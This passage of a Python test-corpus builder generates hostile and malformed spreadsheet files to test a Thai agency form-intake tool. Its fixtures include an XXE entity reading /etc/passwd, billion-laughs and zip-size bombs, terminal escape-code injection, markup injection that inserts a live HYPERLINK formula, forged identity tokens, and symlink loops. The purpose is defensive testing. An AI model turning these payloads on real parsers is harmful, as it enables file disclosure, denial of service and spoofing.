    "format-hides-value.xlsx": _cell_edit("number", "<v>85</v>", 170, ";;;", 't="n"'),
    "format-scaled.xlsx": _cell_edit("number", "<v>85000</v>", 171, "#,##0,", 't="n"'),
    "pasted-date-in-text.xlsx": _cell_edit("text", "<v>43555</v>", 14, attrs='t="n"'),
    "superscript-digits.xlsx": _cell_edit("number", "<is><t>10²</t></is>",
                                          attrs='t="inlineStr"'),
    "parts-renamed.xlsx": _renamed_parts,
    "part-twice.xlsx": _part_twice(lambda name: name),
    "part-twice-case.xlsx": _part_twice(lambda name: name.upper()),
    "zip-header-disagrees.xlsx": _header_disagrees,
    "cell-outside-rows.xlsx": _in_sheet("number", _hidden_cell),
    "cell-twice.xlsx": _in_sheet("number", _cell_twice),
    "sheet-points-elsewhere.xlsx": _sheet_points_elsewhere,
    "rich-value.xlsx": _cell_edit("number", "<v>#VALUE!</v>", attrs='t="e" vm="1"'),
    "conditional-number-format.xlsx": _conditional_number_format,
    "hidden-row.xlsx": _in_sheet("text", _hidden_row),
    "drawing.xlsx": _drawing,
    "hidden-sheet.xlsx": _hidden_sheet,
    "merged-over-input.xlsx": _in_sheet("text", _merged_over_input),
    "lone-surrogate.xlsx": _cell_edit("text", "<is><t>ก_xD800_ข</t></is>",
                                      attrs='t="inlineStr"'),
    "huge-style-index.xlsx": _cell_edit("number", "<v>85</v>", attrs='s="' + "9" * 5000 + '"'),
    "huge-row-number.xlsx": _in_sheet("number", _huge_row),
    "docprops-oversized.xlsx": _docprops_oversized,
    "markup-bomb.xlsx": _in_sheet("number", _markup_bomb),
}


_LAUGHS = (b'<!DOCTYPE workbook [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
           b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x "&c;&c;&c;&c;&c;&c;&c;">]>')
_EXTERNAL = b'<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

BUILDERS: dict[str, Builder] = {
    "damaged-corrupted.xlsx": _from_base(
        lambda d: d[:200] + bytes(b ^ 0x55 for b in d[200:4000]) + d[4000:]),
    "damaged-truncated.xlsx": _from_base(lambda d: d[: len(d) // 2]),
    "damaged-empty.xlsx": _bytes(b""),
    "renamed-csv.xlsx": _bytes("agency_code,status\n03001,ดำเนินการแล้ว\n".encode()),
    "renamed-html.xlsx": _bytes(b"<!DOCTYPE html><html><body><table><tr><td>03001</td></tr>"
                                b"</table></body></html>"),
    "old-format.xls": _committed("old-format.xls"),
    "old-format-renamed.xlsx": _committed("old-format.xls"),
    "opendocument-renamed.xlsx": _committed("opendocument.ods"),
    "strict.xlsx": _strict,
    "macro.xlsm": _macro,
    "macro-renamed.xlsx": _macro,
    "password.xlsx": _committed("password.xlsx"),
    "bomb-shared-strings.xlsx": _shared_strings(
        b"<sst>" + b"".join(b"<si><t>%d</t></si>" % (i * 7919) for i in range(250_000))
        + b"</sst>"),
    "bomb-huge-part.xlsx": _shared_strings(b"<sst>" + b" " * (25 * 1024 * 1024) + b"</sst>"),
    "bomb-million-rows.xlsx": _sheet(_million_rows),
    "bomb-lying-sizes.xlsx": _lying_sizes,
    "far-cell.xlsx": _sheet(_far_cell),
    "entities-billion-laughs.xlsx": _with_doctype(_LAUGHS),
    "entities-external.xlsx": _with_doctype(_EXTERNAL),
    "text-10mb.xlsx": _shared_strings(b"<sst><si><t>" + _thai_text(10 * 1024 * 1024)
                                      + b"</t></si></sst>"),
    "other-form.xlsx": _edit(_set_meta("B1", "some-other-form")),
    "unknown-version.xlsx": _edit(_set_meta("B2", "2599.9")),
    "no-metadata.xlsx": _edit(lambda book: book.remove(book[META_SHEET])),
    # OOXML's escapes, as Excel writes control characters: ESC, BEL, then a new line
    "escape-codes.xlsx": _edit(_set_meta("B1", "_x001B_[2J_x001B_]0;owned_x0007_\n"
                                               "FAKE.xlsx: ok")),
    "rows-inserted.xlsx": _edit(lambda book: book["หมวด 3"].insert_rows(6, 2)),
    "rows-deleted.xlsx": _edit(lambda book: book["หมวด 7.2"].delete_rows(12, 1)),
    "wrong-agency.xlsx": _wrong_agency,
    "~$03001.xlsx": _bytes(b"\x0bstaff\x00" + b"\x20" * 150),
    ".~lock.03001.xlsx#": _bytes(b"staff,PC-01,staff,24.11.2026 09:00,file:///C:/Users;"),
    "Thumbs.db": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
    "readme.txt": _bytes("ส่งแบบฟอร์มแล้ว ตามที่แนบมา\n".encode()),
    **READER_BUILDERS,
    # Issue 10, an agency's identity (see the cases); the functions are further down
    "code-thai-digits.xlsx": lambda base, target, *_: _meta_code(base, target, "03002",
                                                                 "๐๓๐๐๒"),
    "code-invisible.xlsx": lambda base, target, *_: _meta_code(base, target, "03003",
                                                               "０３\u200b００\u00ad３"),
    "token-forged.xlsx": lambda base, target, *_: _forged(base, target),
    "token-missing.xlsx": lambda base, target, layout, cellmap, work: _from_blank(
        layout, cellmap, work, target, "๐๓๐๐๖"),
    "not-issued.xlsx": lambda base, target, layout, cellmap, work: _not_issued(
        layout, cellmap, work, target),
    "dated-2099.xlsx": lambda base, target, *_: saved_at(
        base.parent / "03008.xlsx", target, "2099-01-01T00:00:00Z", "2099-01-01T00:00:00Z"),
    "duplicate-differs.xlsx": lambda base, target, layout, cellmap, work: _differing(
        cellmap, work / "sent" / "03009.xlsx", target, 3),
}


# Issue 10, an agency's identity: builders

EARLIER = "2026-11-25T09:00:00Z"  # after WHEN (generation), before the good returns' saving


def saved_at(src: Path, dst: Path, stamp: str | None, mtime: str | None = None) -> Path:
    """A copy of a return whose workbook says it was saved at ``stamp`` (None: no time), and
    whose file time is ``mtime`` (default: the copy's own)."""
    def change(name: str, data: bytes) -> bytes:
        if name != "docProps/core.xml":
            return data
        return re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                      b"" if stamp is None else rb"\g<1>" + stamp.encode() + rb"\g<2>", data)

    rewrite_zip(src, dst, change)
    if mtime is not None:
        when = datetime.fromisoformat(mtime.replace("Z", "+00:00")).timestamp()
        os.utime(dst, (when, when))
    return dst


def _earlier(path: Path) -> Path:
    """The file, saved at EARLIER (so that the good return of its agency stays the newest)."""
    work = path.with_name(path.name + ".tmp")
    path.rename(work)
    saved_at(work, path, EARLIER)
    work.unlink()
    return path


def _meta_code(base: Path, target: Path, agency: str, spelling: str) -> Path:
    """The good return of ``agency`` with its metadata code spelt otherwise, saved earlier."""
    _edit(_set_meta("B5", spelling))(base.parent / f"{agency}.xlsx", target)
    return _earlier(target)


def _forged(base: Path, target: Path) -> Path:
    """03005's return claiming to be 03004's: metadata and identity code changed, its token
    (03005's) left; saved earlier."""
    def change(book: openpyxl.Workbook) -> None:
        book[META_SHEET]["B5"] = "03004"
        cell = build_cellmap(load_layout()).identity_cell("agency_code")
        book[cell.sheet][cell.ref] = "03004"

    _edit(change)(base.parent / "03005.xlsx", target)
    return _earlier(target)


def _from_blank(layout: Layout, cellmap: CellMap, work: Path, target: Path,
                typed_code: str) -> Path:
    """The blank form (no token) filled in with ``typed_code``, saved earlier."""
    blank = work / "blank-form.xlsx"
    generate_workbook(layout, blank, generated_at=WHEN)
    fill(cellmap, blank, target, agency_code=typed_code)
    return _earlier(target)


def _not_issued(layout: Layout, cellmap: CellMap, work: Path, target: Path) -> Path:
    """A workbook made by hand for NOT_ISSUED_AGENCY, with a token the manifest lacks."""
    made = work / "made-by-hand.xlsx"
    generate_workbook(layout, made, agency=NOT_ISSUED_AGENCY, generated_at=WHEN,
                      token=new_token())
    fill(cellmap, made, target)
    return target


def _differing(cellmap: CellMap, issued: Path, target: Path, cells: int) -> Path:
    """The agency's workbook filled in with other texts in its first ``cells`` text cells,
    saved earlier: a draft."""
    texts = [c for c in cellmap.inputs() if c.kind == "text"][:cells]
    fill(cellmap, issued, target, {f"{c.sheet}!{c.ref}": "ร่างแรก" for c in texts})
    return _earlier(target)

# -- Issue 10, outputs: names and folders (class A), temporary and partial files ------------

#: Text shaped as spreadsheet markup, which xlsxwriter 3.3 copies into the XML unescaped
#: (class C): typed into the injecting return's text cells after INJECTIONS. The second would
#: add a live =HYPERLINK cell to the consolidated workbook if it were written as it is. (Not
#: literal _xHHHH_ escapes: openpyxl, which fills the returns here, writes them unescaped, so
#: the return itself says something else; tests/test_text_stays_text.py has those.)
MARKUP_INJECTIONS = [
    "<r><t>run</t></r>",
    '<r><t>x</t></r></is></c><c r="B1"><f>HYPERLINK("http://example.invalid","y")</f></c>'
    '<c r="C1" t="inlineStr"><is><r><t>z</t></r>',
    "<r><t>x</t></r></si><si><r><t>HYPERLINK</t></r>",
]

DEEP = 1_000  # folders
LONG_NAME = "ก" * 83 + "x"  # 250 bytes of UTF-8, near the 255 a name may have
LONG_LEVELS = 20  # 20 x 251 bytes: past PATH_MAX (4,096) from about the 16th


def _link(to: str) -> Builder:
    return lambda base, target, *_: target.symlink_to(to)


def _loop_folder(base: Path, target: Path, *_: object) -> None:
    target.mkdir()
    (target / "again").symlink_to(".", target_is_directory=True)


def _nested(name: str, levels: int) -> Builder:
    """``levels`` folders called ``name``, one inside the other, made through file
    descriptors (pathlib's and os's makedirs recurse once per level, and full paths can be
    past what the system takes); a copy of a good return at the bottom."""
    def build_(base: Path, target: Path, *_: object) -> None:
        target.mkdir()
        fd = os.open(target, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for _ in range(levels):
                os.mkdir(name, dir_fd=fd)
                inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = inner
            out = os.open("03001-copy.xlsx", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
            with os.fdopen(out, "wb") as handle:
                handle.write(base.read_bytes())
        finally:
            os.close(fd)
    return build_


def remove_deep(root: Path) -> None:
    """Remove the deep trees of ``root/returns`` without recursion (shutil.rmtree, and so
    pytest's clean-up of old temporary folders, recurses once per level)."""
    for name in ("deep", "long-path"):
        top = root / "returns" / name
        if not top.is_dir():
            continue
        folders, names = [os.open(top, os.O_RDONLY | os.O_DIRECTORY)], []
        try:
            while True:  # down: each level holds files and at most one folder
                inner = None
                for entry in os.scandir(folders[-1]):
                    if entry.is_dir(follow_symlinks=False):
                        inner = entry.name
                    else:
                        os.unlink(entry.name, dir_fd=folders[-1])
                if inner is None:
                    break
                folders.append(os.open(inner, os.O_RDONLY | os.O_DIRECTORY,
                                       dir_fd=folders[-1]))
                names.append(inner)
            while names:  # and up, removing each emptied folder
                os.close(folders.pop())
                os.rmdir(names.pop(), dir_fd=folders[-1])
        finally:
            for fd in folders:
                os.close(fd)
        top.rmdir()


BUILDERS.update({
    "name-\udcff.xlsx": _copy,  # the good return of its own agency (CASE_AGENCIES)
    "loop.xlsx": _link("loop.xlsx"),
    "dangling.xlsx": _link("not-there.xlsx"),
    "loop-folder": _loop_folder,
    "deep": _nested("d", DEEP - 1),
    "long-path": _nested(LONG_NAME, LONG_LEVELS),
    ".03001.xlsx.k2j4h6x8.tmp": _copy,
    "~WRL0001.tmp": _copy,
    "03002.xlsx.crdownload": _copy,
    "03003.xlsx.part": _copy,
})


# --------------------------------------------------------------------------------------------
# The committed files, and how they were made
# --------------------------------------------------------------------------------------------


def make_committed(folder: Path = COMMITTED) -> None:
    """Remake the three committed files (needs LibreOffice and msoffcrypto-tool, neither of
    which the tests need): a blank form saved by LibreOffice as .xls and .ods, and the blank
    form encrypted with the password ``pmqa``."""
    from pmqa_xlsx.libreoffice import convert

    folder.mkdir(parents=True, exist_ok=True)
    work = folder / ".work"
    work.mkdir(exist_ok=True)
    blank = work / "form.xlsx"
    generate_workbook(load_layout(), blank, agency=GOOD_AGENCIES[0], generated_at=WHEN)
    shutil.copyfile(convert(blank, work, "xls"), folder / "old-format.xls")
    shutil.copyfile(convert(blank, work, "ods"), folder / "opendocument.ods")
    tool = shutil.which("msoffcrypto-tool")
    if tool is None:
        raise SystemExit("needs msoffcrypto-tool on PATH: pip install msoffcrypto-tool")
    subprocess.run([tool, "-e", "-p", "pmqa", str(blank), str(folder / "password.xlsx")],
                   check=True)
    shutil.rmtree(work)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--committed"]:
        make_committed()
    else:
        for path in build(Path(sys.argv[1]) if len(sys.argv) > 1 else Path("corpus")).values():
            print(path)
